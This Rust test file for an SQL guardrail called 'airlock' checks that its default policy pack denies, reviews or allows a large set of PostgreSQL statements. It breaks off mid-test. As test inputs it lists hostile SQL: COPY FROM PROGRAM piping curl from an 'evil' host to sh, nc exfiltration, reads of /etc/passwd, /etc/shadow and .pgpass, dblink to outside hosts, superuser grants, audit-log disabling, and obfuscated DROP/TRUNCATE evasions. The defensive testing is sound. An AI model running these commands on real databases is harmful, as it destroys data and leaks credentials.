#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

//! The default guardrail pack, end to end: real SQL through the real PostgreSQL parser and
//! the real Cedar policies. Every category of PRODUCT.md's default pack — deny, review and
//! allow — including evasions and look-alikes that must stay allowed.

use airlock_model::{
    Command, Connection, ConnectionKind, Facts, Identity, Name, Protocol, Verdict,
};
use airlock_policy::{Checkpoint, Policy};

use Verdict::{Allow, Deny, Review};

fn command(text: &str, env: &str) -> Command {
    Command {
        identity: Identity::human(Name::new("alice").unwrap()),
        connection: Connection {
            name: Name::new("main").unwrap(),
            kind: ConnectionKind::Postgres,
            environments: [Name::new(env).unwrap()].into(),
        },
        protocol: Protocol::DryRun,
        text: text.to_owned(),
    }
}

fn check(cases: &[(&str, Verdict)]) {
    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
    let mut failures = Vec::new();
    for (sql, expected) in cases {
        let decision = checkpoint.decide(&command(sql, "prod"));
        if decision.verdict != *expected {
            failures.push(format!(
                "{sql:?}: expected {expected}, got {} ({})",
                decision.verdict,
                decision
                    .rules
                    .iter()
                    .map(|r| r.rule.to_string())
                    .collect::<Vec<_>>()
                    .join(", ")
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

#[test]
fn destroying_schema_or_data_wholesale_is_denied() {
    check(&[
        ("DROP TABLE users", Deny),
        ("drop table if exists public.users cascade", Deny),
        ("DROP SCHEMA app CASCADE", Deny),
        ("DROP DATABASE prod", Deny),
        ("DROP INDEX idx_users_email", Deny),
        ("DROP VIEW v", Deny),
        ("DROP FUNCTION f()", Deny),
        ("DROP ROLE bob", Deny),
        ("DROP OWNED BY bob CASCADE", Deny),
        ("TRUNCATE users", Deny),
        ("TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", Deny),
        ("DELETE FROM users", Deny),
        ("UPDATE users SET active = false", Deny),
        ("DELETE FROM users WHERE 1=1", Deny),
        ("DELETE FROM users WHERE true", Deny),
        ("DELETE FROM users WHERE 'a' = 'a'", Deny),
        ("DELETE FROM users WHERE 2 > 1", Deny),
        ("DELETE FROM users WHERE 1 + 1 = 2", Deny),
        ("DELETE FROM users WHERE NOT false", Deny),
        ("DELETE FROM users WHERE id = id", Deny),
        ("UPDATE users SET x = 1 WHERE email = email", Deny),
        ("DELETE FROM users WHERE id = 5 OR 1=1", Deny),
        (
            "DELETE FROM users WHERE deleted_at IS NULL OR deleted_at IS NOT NULL",
            Deny,
        ),
        ("UPDATE users SET a = 1 WHERE age > 18 OR age <= 18", Deny),
        ("DELETE FROM users WHERE active OR NOT active", Deny),
        ("DELETE FROM users WHERE name LIKE '%'", Deny),
        ("DELETE FROM users WHERE NULL IS NULL", Deny),
        ("DELETE FROM users WHERE 1 IN (1, 2)", Deny),
        ("DELETE FROM users WHERE '1'::int = 1", Deny),
        ("DELETE FROM users WHERE id IN (SELECT id FROM users)", Deny),
        ("DELETE FROM users WHERE EXISTS (SELECT 1)", Deny),
        (
            "DELETE FROM users u WHERE EXISTS (SELECT 1 FROM users u2 WHERE u2.id = u.id)",
            Deny,
        ),
        (
            "DELETE FROM users WHERE id IN (SELECT users.id FROM users)",
            Deny,
        ),
        (
            "DELETE FROM users WHERE id IN (SELECT id FROM users WHERE true)",
            Deny,
        ),
        ("DELETE FROM users WHERE 1::bool", Deny),
        ("DELETE FROM users WHERE 'true'", Deny),
        ("DELETE FROM users WHERE coalesce(null, true)", Deny),
        ("DELETE FROM users WHERE CASE WHEN true THEN true END", Deny),
        ("DELETE FROM users WHERE length('a') = 1", Deny),
        ("DELETE FROM users WHERE $1", Deny),
        ("DELETE FROM users WHERE now() > '2020-01-01'", Deny),
        ("DELETE FROM users WHERE id = $1 OR $2", Allow), // bind-time values decide (ORM idiom)
        (
            "DELETE FROM users u USING users u2 WHERE u.id = u2.id",
            Deny,
        ),
        (
            "UPDATE users SET a = 1 FROM users b WHERE users.id = b.id",
            Deny,
        ),
        (
            "MERGE INTO users t USING users s ON t.id = s.id WHEN MATCHED THEN DELETE",
            Deny,
        ),
        ("ALTER TABLE users DROP COLUMN email", Deny),
        ("ALTER TABLE users DROP COLUMN email CASCADE", Deny),
    ]);
}

#[test]
fn evasions_are_judged_by_effect() {
    check(&[
        ("DROP/**/TABLE users", Deny),
        ("DROP/* a /* nested */ comment */TABLE users", Deny),
        ("dRoP tAbLe users", Deny),
        ("DROP TABLE \"Users\"", Deny),
        ("SELECT 1; DROP TABLE users", Deny),
        ("SELECT 1; DELETE FROM users; SELECT 2", Deny),
        (
            "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
            Deny,
        ),
        (
            "WITH x AS (UPDATE users SET a = 1 RETURNING id) SELECT * FROM x",
            Deny,
        ),
        ("DELETE FROM users USING orders WHERE true", Deny),
        ("EXPLAIN ANALYZE DELETE FROM users", Deny),
        ("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1", Deny),
        ("COPY (DELETE FROM users RETURNING *) TO STDOUT", Deny),
        ("DO $$ BEGIN DROP TABLE users; END $$", Deny),
        ("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", Deny),
        (
            "DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE ' || 'users'; END $$",
            Deny,
        ),
        (
            "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$",
            Deny,
        ),
        (
            "DO $$ BEGIN EXECUTE format('TRUNCATE %s', 'users'); END $$",
            Deny,
        ),
        ("DO $$ BEGIN EXECUTE E'DROP\\x20TABLE users'; END $$", Deny),
        (
            "DO $$ BEGIN EXECUTE U&'DROP\\0020TABLE users'; END $$",
            Deny,
        ),
        (
            "DO $$ BEGIN EXECUTE chr(68)||chr(82)||chr(79)||chr(80)||' TABLE users'; END $$",
            Deny,
        ),
        (
            "DO $$ DECLARE q text := 'TRUNCATE users'; BEGIN EXECUTE q; END $$",
            Deny,
        ),
        (
            "DO $body$ BEGIN EXECUTE $q$DELETE FROM users$q$; END $body$",
            Deny,
        ),
        (
            "DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSB1c2Vycw==', 'base64'), 'UTF8'); END $$",
            Deny,
        ),
        (
            "DO LANGUAGE plpgsql $$ BEGIN IF true THEN DELETE FROM users; END IF; END $$",
            Deny,
        ),
        (
            "SELECT query_to_xml('DELETE FROM users', true, true, '')",
            Deny,
        ),
        ("PREPARE p AS DELETE FROM users; EXECUTE p", Deny),
        (
            "CREATE TABLE t2 AS WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
            Deny,
        ),
    ]);
}

#[test]
fn server_files_programs_and_remote_hosts_are_denied() {
    check(&[
        ("COPY users FROM PROGRAM 'curl http://evil/x | sh'", Deny),
        ("COPY users TO PROGRAM 'nc evil 9000'", Deny),
        ("COPY (SELECT * FROM users) TO '/tmp/users.csv'", Deny),
        ("COPY users FROM '/etc/passwd'", Deny),
        ("SELECT pg_read_file('/etc/passwd')", Deny),
        (
            "SELECT pg_catalog.pg_read_binary_file('/var/lib/postgresql/.pgpass')",
            Deny,
        ),
        ("SELECT * FROM pg_ls_dir('/')", Deny),
        ("SELECT lo_import('/etc/shadow')", Deny),
        ("SELECT lo_export(1234, '/tmp/x')", Deny),
        ("SELECT dblink_connect('host=10.0.0.1 user=postgres')", Deny),
        (
            "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
            Deny,
        ),
        (
            "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')",
            Deny,
        ),
        (
            "SELECT id FROM users WHERE id = (SELECT length(pg_read_file('/etc/passwd')))",
            Deny,
        ),
        ("LOAD '/tmp/evil.so'", Deny),
        (
            "CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS 'import os'",
            Deny,
        ),
    ]);
}

#[test]
fn privilege_escalation_is_denied() {
    check(&[
        ("ALTER ROLE bob SUPERUSER", Deny),
        ("ALTER USER bob WITH SUPERUSER", Deny),
        ("CREATE ROLE admin2 SUPERUSER LOGIN", Deny),
        ("GRANT pg_execute_server_program TO bob", Deny),
        ("GRANT pg_read_server_files TO bob", Deny),
        ("GRANT pg_write_server_files TO bob", Deny),
        ("GRANT postgres TO bob", Deny),
        (
            "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'bob'",
            Deny,
        ),
        (
            "INSERT INTO pg_catalog.pg_authid SELECT * FROM pg_authid",
            Deny,
        ),
    ]);
}

#[test]
fn disabling_audit_relevant_behaviour_is_denied() {
    check(&[
        ("SET session_replication_role = replica", Deny),
        ("SET LOCAL session_replication_role TO 'replica'", Deny),
        (
            "SELECT set_config('session_replication_role', 'replica', false)",
            Deny,
        ),
        ("ALTER SYSTEM SET log_statement = 'none'", Deny),
        ("ALTER SYSTEM RESET ALL", Deny),
        ("SET log_statement = 'none'", Deny),
        (
            "SELECT set_config('log_min_duration_statement', '-1', false)",
            Deny,
        ),
        ("ALTER TABLE users DISABLE TRIGGER ALL", Deny),
        ("ALTER TABLE audit DISABLE TRIGGER audit_trg", Deny),
        ("ALTER TABLE users DISABLE ROW LEVEL SECURITY", Deny),
        ("ALTER EVENT TRIGGER guard DISABLE", Deny),
        (
            "CREATE RULE r AS ON DELETE TO users DO INSTEAD NOTHING",
            Deny,
        ),
        (
            "CREATE RULE r AS ON INSERT TO audit_log DO INSTEAD NOTHING",
            Deny,
        ),
        ("ALTER DATABASE prod SET log_statement = 'none'", Deny),
    ]);
}

#[test]
fn deferred_bombs_are_denied() {
    check(&[
        (
            "CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM users",
            Deny,
        ),
        (
            "CREATE OR REPLACE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN NULL; END $$",
            Deny,
        ),
        (
            "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'TRUNCATE users'",
            Deny,
        ),
        (
            "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END",
            Deny,
        ),
        (
            "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
            Deny,
        ),
    ]);
}

#[test]
fn unknowable_or_privileged_changes_need_review() {
    check(&[
        ("DO $$ BEGIN EXECUTE 'DELETE FROM ' || tbl; END $$", Review),
        (
            "DO $$ DECLARE t text; BEGIN SELECT name INTO t FROM cfg; EXECUTE 'DROP TABLE ' || t; END $$",
            Deny,
        ),
        (
            "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'",
            Review,
        ),
        ("SELECT my_cleanup_function(42)", Review),
        ("SELECT public.lower('X')", Review),
        ("CALL archive_orders()", Review),
        ("EXECUTE stmt1(42)", Review),
        ("CREATE TABLE t (id int)", Review),
        ("ALTER TABLE users ADD COLUMN nickname text", Review),
        ("CREATE INDEX idx ON users (email)", Review),
        (
            "CREATE TRIGGER t AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()",
            Review,
        ),
        ("GRANT SELECT ON users TO bob", Review),
        ("REVOKE ALL ON users FROM bob", Review),
        ("CREATE ROLE bob LOGIN", Review),
        ("ALTER ROLE bob CREATEDB", Review),
        ("COPY users TO STDOUT", Review),
        ("COPY (SELECT * FROM users) TO STDOUT WITH CSV", Review),
        ("SELECT * FROM users", Review),
        ("SELECT * FROM public.customers WHERE 1 = 1", Review),
        ("SELECT json_agg(u) FROM users u", Review),
    ]);
}

#[test]
fn ordinary_work_and_look_alikes_are_allowed() {
    check(&[
        (
            "SELECT abalance FROM pgbench_accounts WHERE aid = 42",
            Allow,
        ),
        ("SELECT * FROM users WHERE id = 5", Allow),
        ("SELECT * FROM users LIMIT 10", Allow),
        (
            "SELECT * FROM users ORDER BY id FETCH FIRST 5 ROWS ONLY",
            Allow,
        ),
        ("SELECT count(*) FROM users", Allow),
        ("SELECT status, count(*) FROM orders GROUP BY status", Allow),
        ("SELECT id, email FROM users", Allow),
        ("UPDATE users SET name = 'x' WHERE id = 5", Allow),
        ("DELETE FROM sessions WHERE expires_at < now()", Allow),
        ("DELETE FROM users WHERE 1 = 2", Allow),
        ("UPDATE users SET x = 1 WHERE id = $1", Allow),
        (
            "DELETE FROM users WHERE id IN (SELECT user_id FROM bans)",
            Allow,
        ),
        ("INSERT INTO users (id, name) VALUES (1, 'a')", Allow),
        ("INSERT INTO t SELECT * FROM s WHERE id > 10", Allow),
        ("BEGIN", Allow),
        ("COMMIT", Allow),
        ("ROLLBACK", Allow),
        (
            "BEGIN; UPDATE accounts SET balance = balance - 1 WHERE id = 1; COMMIT",
            Allow,
        ),
        ("EXPLAIN DELETE FROM users", Allow),
        ("EXPLAIN SELECT * FROM users", Allow),
        ("SHOW search_path", Allow),
        ("SET search_path = app, public", Allow),
        ("SET statement_timeout = '5s'", Allow),
        ("SET application_name = 'psql'", Allow),
        ("SELECT 'DROP TABLE users'", Allow),
        (
            "SELECT 'DROP TABLE users' AS warning FROM users WHERE id = 1",
            Allow,
        ),
        ("SELECT 1 -- DROP TABLE users", Allow),
        ("SELECT /* DELETE FROM users */ 1", Allow),
        ("SELECT $$DROP TABLE users$$", Allow),
        ("SELECT $tag$ TRUNCATE users $tag$", Allow),
        ("SELECT * FROM drop_log WHERE id = 1", Allow),
        ("SELECT deleted_at FROM users WHERE id = 2", Allow),
        (
            "INSERT INTO drop_log (msg) VALUES ('DROP TABLE users')",
            Allow,
        ),
        ("UPDATE truncate_jobs SET done = true WHERE id = 3", Allow),
        ("SELECT now()", Allow),
        ("SELECT public.uuid_generate_v4()", Allow),
        ("SELECT casefold(name) FROM users WHERE id = 1", Allow),
        (
            "INSERT INTO events (id, at) VALUES (gen_random_uuid(), now())",
            Allow,
        ),
        ("SELECT lower(email) FROM users WHERE id = 1", Allow),
        ("SELECT * FROM pg_stat_activity", Allow),
        ("SELECT relname FROM pg_class", Allow),
        ("COPY users FROM STDIN", Allow),
        ("", Allow),
        ("-- just a comment", Allow),
    ]);
}

#[test]
fn unparseable_input_is_denied() {
    check(&[
        ("DROP TABLE", Deny),
        ("SELEC * FROM users", Deny),
        ("SELECT 'unterminated", Deny),
        ("SELECT 1\0; DROP TABLE users", Deny),
    ]);
}

#[test]
fn review_rules_do_not_apply_outside_prod_but_deny_rules_do() {
    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
    assert_eq!(
        checkpoint
            .decide(&command("CREATE TABLE t (id int)", "dev"))
            .verdict,
        Allow
    );
    assert_eq!(
        checkpoint
            .decide(&command("SELECT * FROM users", "dev"))
            .verdict,
        Allow
    );
    assert_eq!(
        checkpoint
            .decide(&command("DROP TABLE users", "dev"))
            .verdict,
        Deny
    );
    assert_eq!(
        checkpoint
            .decide(&command("CREATE TABLE t (id int)", "prod"))
            .verdict,
        Review
    );
}

#[test]
fn cache_never_shares_a_decision_across_literal_dependent_shapes() {
    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
    let decide = |c: &mut Checkpoint, sql: &str| c.decide(&command(sql, "prod")).verdict;
    assert_eq!(
        decide(&mut checkpoint, "DELETE FROM users WHERE 1 = 2"),
        Allow
    );
    assert_eq!(
        decide(&mut checkpoint, "DELETE FROM users WHERE 1 = 1"),
        Deny
    );
    assert_eq!(
        decide(&mut checkpoint, "SELECT * FROM users LIMIT 5"),
        Allow
    );
    assert_eq!(
        decide(&mut checkpoint, "SELECT * FROM users LIMIT ALL"),
        Review
    );
    assert_eq!(
        decide(&mut checkpoint, "DELETE FROM users WHERE name LIKE 'a%'"),
        Allow
    );
    assert_eq!(
        decide(&mut checkpoint, "DELETE FROM users WHERE name LIKE '%'"),
        Deny
    );
    // Same shape, other literal: served from the fingerprint cache, same decision.
    assert_eq!(
        decide(
            &mut checkpoint,
            "SELECT abalance FROM pgbench_accounts WHERE aid = 1"
        ),
        Allow
    );
    assert_eq!(
        decide(
            &mut checkpoint,
            "SELECT abalance FROM pgbench_accounts WHERE aid = 2"
        ),
        Allow
    );
}

#[test]
fn filters_that_ignore_the_row_or_mirror_the_target_match_every_row() {
    check(&[
        ("DELETE FROM users WHERE 'true'", Deny),
        ("DELETE FROM users WHERE coalesce(null, true)", Deny),
        ("DELETE FROM users WHERE CASE WHEN true THEN true END", Deny),
        ("DELETE FROM users WHERE length('a') = 1", Deny),
        ("DELETE FROM users WHERE now() > '2020-01-01'", Deny),
        ("UPDATE users SET x = 1 WHERE id = $1 OR $1 IS NULL", Allow),
        ("DELETE FROM users WHERE ctid IS NOT NULL", Deny),
        ("DELETE FROM users WHERE 'a' LIKE 'a'", Deny),
        (
            "DELETE FROM users WHERE id IN (SELECT users.id FROM users)",
            Deny,
        ),
        (
            "DELETE FROM users WHERE id IN (SELECT id FROM users WHERE true)",
            Deny,
        ),
        (
            "DELETE FROM users USING (SELECT id FROM users) s WHERE users.id = s.id",
            Deny,
        ),
        (
            "MERGE INTO users t USING (SELECT 1 AS id) s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
            Deny,
        ),
        ("DELETE FROM users WHERE id IN (SELECT id FROM bans)", Allow),
        (
            "DELETE FROM users u WHERE EXISTS (SELECT 1 FROM bans b WHERE b.user_id = u.id)",
            Allow,
        ),
        (
            "DELETE FROM users USING bans WHERE users.id = bans.user_id",
            Allow,
        ),
        (
            "DELETE FROM users USING (SELECT user_id FROM bans) b WHERE users.id = b.user_id",
            Allow,
        ),
        (
            "MERGE INTO users t USING staged s ON t.id = s.id WHEN MATCHED THEN UPDATE SET name = s.name",
            Allow,
        ),
        ("DELETE FROM users WHERE 1 = 2", Allow),
        ("UPDATE users SET x = 1 WHERE id = $1", Allow),
    ]);
}

/// Every arm of a set operation is read (its tables and functions), and a set operation's own
/// WITH clause too: both once went unread at the top level, so each denied case below was
/// allowed.
#[test]
fn set_operations_are_judged_by_every_arm() {
    check(&[
        ("SELECT 1 UNION SELECT pg_read_file('/etc/passwd')", Deny),
        ("SELECT 1 UNION ALL SELECT lo_import('/etc/shadow')", Deny),
        (
            "SELECT 1 INTERSECT SELECT x FROM dblink('host=evil', 'select 1') AS t(x int)",
            Deny,
        ),
        (
            "SELECT 1 EXCEPT SELECT set_config('session_replication_role', 'replica', false)::int",
            Deny,
        ),
        (
            "(SELECT 1 UNION SELECT 2) EXCEPT SELECT length(pg_read_file('x'))",
            Deny,
        ),
        ("SELECT 1 UNION VALUES (pg_read_file('/etc/passwd'))", Deny),
        (
            "WITH d AS (DELETE FROM users RETURNING *) SELECT 1 UNION SELECT 2",
            Deny,
        ),
        (
            "COPY (SELECT 1 UNION SELECT length(pg_read_file('x'))) TO STDOUT",
            Deny,
        ),
        (
            "EXPLAIN ANALYZE SELECT 1 UNION SELECT length(pg_read_file('x'))",
            Deny,
        ),
        (
            "PREPARE p AS SELECT 1 UNION SELECT length(pg_read_file('x'))",
            Deny,
        ),
        (
            "DECLARE c CURSOR FOR SELECT 1 UNION SELECT length(pg_read_file('x'))",
            Deny,
        ),
        (
            "DO $$ BEGIN PERFORM 1 UNION SELECT length(pg_read_file('x')); END $$",
            Deny,
        ),
        (
            "SELECT id FROM users WHERE id = 1 UNION ALL SELECT * FROM secrets",
            Review,
        ),
        (
            "SELECT id FROM users WHERE id = 1 UNION SELECT id FROM bans WHERE id = 2",
            Allow,
        ),
        ("SELECT 1 UNION SELECT 2 ORDER BY 1 LIMIT 1", Allow),
        ("SELECT * FROM t UNION SELECT * FROM t LIMIT 5", Allow),
    ]);
}

/// A denial says which of the three it found: no filter, a filter proven true for every row,
/// or one that ignores the row (every row or none). Twice through one checkpoint, in both
/// orders, so a cached evaluation cannot lend one statement another's reason.
#[test]
fn all_rows_denials_say_what_the_filter_is() {
    const MISSING: &str = "has no WHERE clause,";
    const PROVEN: &str = "has a WHERE clause that is true for every row,";
    const IGNORES_ROW: &str = "has a WHERE clause that does not depend on the row";
    let cases = [
        ("DELETE FROM users", MISSING),
        ("DELETE FROM users WHERE 1 = 1", PROVEN),
        ("DELETE FROM users WHERE id = id OR 1 = 1", PROVEN),
        ("DELETE FROM users WHERE 5 BETWEEN 1 AND 7", PROVEN),
        ("DELETE FROM users WHERE 5 BETWEEN NULL AND 7", IGNORES_ROW),
        ("DELETE FROM users WHERE now() > '2020-01-01'", IGNORES_ROW),
        ("UPDATE users SET x = 1", MISSING),
        ("UPDATE users SET x = 1 WHERE 5 < 7", PROVEN),
        ("UPDATE users SET x = 1 WHERE 'b' < 'C'", IGNORES_ROW),
        ("UPDATE users SET x = 1 WHERE 'b' = 'b'", PROVEN),
    ];
    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
    let mut failures = Vec::new();
    for (sql, expected) in cases.iter().chain(cases.iter().rev()) {
        let decision = checkpoint.decide(&command(sql, "prod"));
        let reason = decision.reason();
        if decision.verdict != Deny || !reason.contains(expected) {
            failures.push(format!("{sql:?}: {} {reason:?}", decision.verdict));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn plpgsql_variables_rules_and_functions() {
    check(&[
        // Whatever the variable holds, a literal `DROP TABLE`/`TRUNCATE` prefix decides the kind.
        (
            "DO $$DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE format('TRUNCATE %I CASCADE', r.tablename); END LOOP; END$$",
            Deny,
        ),
        (
            "DO $$BEGIN EXECUTE 'DELETE FROM t' || suffix; END $$",
            Review,
        ),
        (
            "DO $$ DECLARE q text := 'DROP TABLE t'; BEGIN q := q || ' CASCADE'; EXECUTE q; END $$",
            Deny,
        ),
        (
            "DO $$ DECLARE q text; BEGIN IF now() > '2020-01-01' THEN q := 'SELECT 1'; ELSE q := 'TRUNCATE users'; END IF; EXECUTE q; END $$",
            Deny,
        ),
        (
            "DO $$ DECLARE t text := 'users'; BEGIN EXECUTE format('DROP TABLE %I', t); END $$",
            Deny,
        ),
        (
            "DO $$ DECLARE q text; BEGIN SELECT sql INTO q FROM jobs LIMIT 1; EXECUTE q; END $$",
            Review,
        ),
        (
            "CREATE RULE r AS ON UPDATE TO accounts DO INSTEAD SELECT 1",
            Deny,
        ),
        ("SELECT public.uuid_generate_v4()", Allow),
        ("SELECT casefold(name) FROM users WHERE id = 1", Allow),
        (
            "INSERT INTO events (id, at) VALUES (gen_random_uuid(), now())",
            Allow,
        ),
        ("SELECT public.lower('X')", Review),
    ]);
}

#[test]
fn cache_keeps_literal_bound_predicates_apart() {
    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
    let mut decide = |sql: &str| checkpoint.decide(&command(sql, "prod")).verdict;
    assert_eq!(decide("DELETE FROM users WHERE 0::bool"), Allow);
    assert_eq!(decide("DELETE FROM users WHERE 1::bool"), Deny);
    assert_eq!(decide("DELETE FROM users WHERE 'false'"), Allow);
    assert_eq!(decide("DELETE FROM users WHERE 'true'"), Deny);
    assert_eq!(decide("DELETE FROM users WHERE 3 IN (1, 2)"), Allow);
    assert_eq!(decide("DELETE FROM users WHERE 2 IN (1, 2)"), Deny);
    assert_eq!(decide("DELETE FROM users WHERE NULL IS NOT NULL"), Allow);
    assert_eq!(decide("DELETE FROM users WHERE 'x' IS NOT NULL"), Deny);
    // Strings order by the database's collation (`'b' < 'C'` holds under `en_US`, not under
    // `C`): never folded, so never proven false; equality does not depend on it.
    assert_eq!(decide("DELETE FROM users WHERE 'b' < 'C'"), Deny);
    assert_eq!(decide("DELETE FROM users WHERE 'b' >= 'C'"), Deny);
    assert_eq!(decide("DELETE FROM users WHERE 'b' = 'B'"), Allow);
    assert_eq!(decide("DELETE FROM users WHERE 'b' <> 'b'"), Allow);
    assert_eq!(decide("DELETE FROM users WHERE '10' < 9"), Allow);
}

/// Ranges over a column share a decision by shape (no parse for the next range); constant
/// ranges are literal-sensitive and never do.
#[test]
fn cache_shares_column_ranges_and_keeps_constant_ranges_apart() {
    let facts = |sql: &str| match Checkpoint::new(Policy::default_pack().unwrap())
        .facts(&command(sql, "prod"))
    {
        Facts::Sql(sql) => sql,
    };
    assert!(!facts("SELECT * FROM t WHERE aid BETWEEN 5 AND 5 + 9999").literal_sensitive);
    assert!(!facts("DELETE FROM t WHERE d NOT BETWEEN SYMMETRIC 1 AND 2").literal_sensitive);
    assert!(facts("DELETE FROM t WHERE 5 BETWEEN 5 AND 5").literal_sensitive);
    assert!(facts("DELETE FROM t WHERE 5 BETWEEN 1 AND 9").literal_sensitive);

    // In order, through one checkpoint (its cache): `check`.
    check(&[
        ("DELETE FROM users WHERE id BETWEEN 1 AND 10", Allow),
        ("DELETE FROM users WHERE id BETWEEN 7 AND 70", Allow),
        // A filter that ignores the row matches every row or none: refused unless it is
        // shown to match none, as `3 IN (1, 2)` is.
        ("DELETE FROM users WHERE 5 BETWEEN 6 AND 7", Allow),
        ("DELETE FROM users WHERE 5 BETWEEN 1 AND 9", Deny),
        ("DELETE FROM users WHERE 5 BETWEEN 5 AND 5", Deny),
        ("DELETE FROM users WHERE 5 BETWEEN 9 AND 1", Allow),
        ("DELETE FROM users WHERE 5 BETWEEN SYMMETRIC 9 AND 1", Deny),
        ("DELETE FROM users WHERE 5 NOT BETWEEN 6 AND 7", Deny),
        ("DELETE FROM users WHERE 5 NOT BETWEEN 1 AND 9", Allow),
        (
            "DELETE FROM users WHERE 5 NOT BETWEEN SYMMETRIC 9 AND 1",
            Allow,
        ),
        ("DELETE FROM users WHERE 'b' BETWEEN 'a' AND 'c'", Deny),
        // Strings order by the database's collation, which airlock does not know: no string
        // range folds, so none is proven false. This one is true under ICU or `en_US` and
        // false under `C`; the next is false under every collation, and refused all the same.
        ("DELETE FROM users WHERE 'b' BETWEEN 'A' AND 'C'", Deny),
        ("DELETE FROM users WHERE 'b' NOT BETWEEN 'a' AND 'c'", Deny),
        ("DELETE FROM users WHERE 2 + 3 BETWEEN 6 AND 7", Allow),
        // A null bound: the filter matches no row, but airlock does not model that.
        ("DELETE FROM users WHERE 5 BETWEEN NULL AND 7", Deny),
        ("DELETE FROM users WHERE id BETWEEN id AND id", Deny),
        ("DELETE FROM users WHERE id BETWEEN 2 AND 20", Allow),
    ]);
}

#[test]
fn cached_evaluations_keep_names_apart_when_a_rule_names_them() {
    let mut sources = airlock_policy::default_sources();
    sources.push(airlock_policy::PolicySource::new(
        "team.cedar",
        r#"@id("orders-writes")
@verdict("review")
@message("writes to {writes} need review")
forbid (principal, action == Action::"sql", resource)
when { context.stmt.writes.contains("orders") };"#,
    ));
    let mut checkpoint = Checkpoint::new(Policy::from_sources(&sources).unwrap());
    let mut decide = |sql: &str| checkpoint.decide(&command(sql, "prod"));
    // Same structure, different tables: the rule tells them apart.
    assert_eq!(decide("DELETE FROM customers WHERE id = 1").verdict, Allow);
    let orders = decide("DELETE FROM orders WHERE id = 1");
    assert_eq!(orders.verdict, Review);
    assert!(orders.reason().contains("`orders`"), "{}", orders.reason());
    assert_eq!(decide("DELETE FROM invoices WHERE id = 1").verdict, Allow);
}

/// One checkpoint judging under changing connections and callers: nothing cached under one
/// answers for another (GRANT needs review on `prod` only).
#[test]
fn cache_keeps_connections_and_callers_apart() {
    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
    let grant = "GRANT SELECT ON users TO bob";
    for _ in 0..2 {
        assert_eq!(checkpoint.decide(&command(grant, "prod")).verdict, Review);
        assert_eq!(checkpoint.decide(&command(grant, "dev")).verdict, Allow);
    }
    let mut other = command(grant, "prod");
    other.identity = Identity::human(Name::new("carol").unwrap());
    assert_eq!(checkpoint.decide(&other).verdict, Review);
    other.connection.environments = [Name::new("dev").unwrap()].into();
    assert_eq!(checkpoint.decide(&other).verdict, Allow);
    assert_eq!(checkpoint.decide(&command(grant, "prod")).verdict, Review);
}

#[test]
fn cached_evaluations_render_the_real_names() {
    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
    let mut decide = |sql: &str| checkpoint.decide(&command(sql, "prod"));
    let first = decide("DROP TABLE alpha");
    let second = decide("DROP TABLE beta");
    assert_eq!((first.verdict, second.verdict), (Deny, Deny));
    assert!(first.reason().contains("`alpha`"), "{}", first.reason());
    assert!(second.reason().contains("`beta`"), "{}", second.reason());
    assert!(!second.reason().contains("alpha"), "{}", second.reason());
}

/// Cases an adversarial review found (each misjudged by an earlier build).
#[test]
fn adversarial_review_regressions() {
    check(&[
        // Parser settings that would let the server read literals differently.
        ("SET standard_conforming_strings = off", Deny),
        ("SET client_encoding = 'SJIS'", Deny),
        ("SET search_path = evil, pg_catalog", Review),
        // Always-true filters.
        (
            "DELETE FROM users WHERE NOT EXISTS (SELECT 1 WHERE false)",
            Deny,
        ),
        (
            "DELETE FROM users WHERE id NOT IN (SELECT 1 WHERE false)",
            Deny,
        ),
        ("DELETE FROM users WHERE 1 = (SELECT 1)", Deny),
        ("DELETE FROM users WHERE (1, 2) = (1, 2)", Deny),
        (
            "DELETE FROM users WHERE ROW(id) IS NOT DISTINCT FROM ROW(id)",
            Deny,
        ),
        (
            "UPDATE users SET x = 1 WHERE coalesce(x, 0) = coalesce(x, 0)",
            Deny,
        ),
        (
            "DELETE FROM users WHERE CASE WHEN id > 0 THEN true ELSE true END",
            Deny,
        ),
        ("DELETE FROM users WHERE id = ANY(ARRAY[id])", Deny),
        ("DELETE FROM users WHERE id BETWEEN id AND id", Deny),
        (
            "DELETE FROM users WHERE id IN (WITH x AS (SELECT id FROM users) SELECT id FROM x)",
            Deny,
        ),
        (
            "DELETE FROM users WHERE id IN (SELECT id FROM users UNION SELECT 1)",
            Deny,
        ),
        // Catalog writes, roles, foreign tables, SQL-standard bodies, domains.
        ("COPY pg_authid FROM STDIN", Deny),
